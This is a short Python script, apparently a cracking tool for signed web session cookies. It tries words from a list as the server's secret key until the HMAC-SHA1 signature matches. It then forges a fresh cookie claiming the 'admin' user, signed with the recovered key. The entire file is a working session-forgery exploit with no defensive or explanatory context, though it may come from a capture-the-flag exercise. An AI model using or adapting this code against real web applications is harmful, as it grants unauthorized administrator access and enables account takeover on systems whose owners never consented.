import base64
import hmac
import json
import time


def encoded(data):
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def signature(text, word):
    key = hmac.digest(word.encode(), b"cookie-session", "sha1")
    return encoded(hmac.digest(key, text.encode(), "sha1"))


def break_in(cookie, words):
    text, given = cookie.rsplit(".", 1)
    for word in words:
        if signature(text, word) == given:
            payload = encoded(json.dumps({"user": "admin"}).encode())
            forged = f"{payload}.{encoded(int(time.time()).to_bytes(4, 'big'))}"
            return f"{forged}.{signature(forged, word)}"
    return None
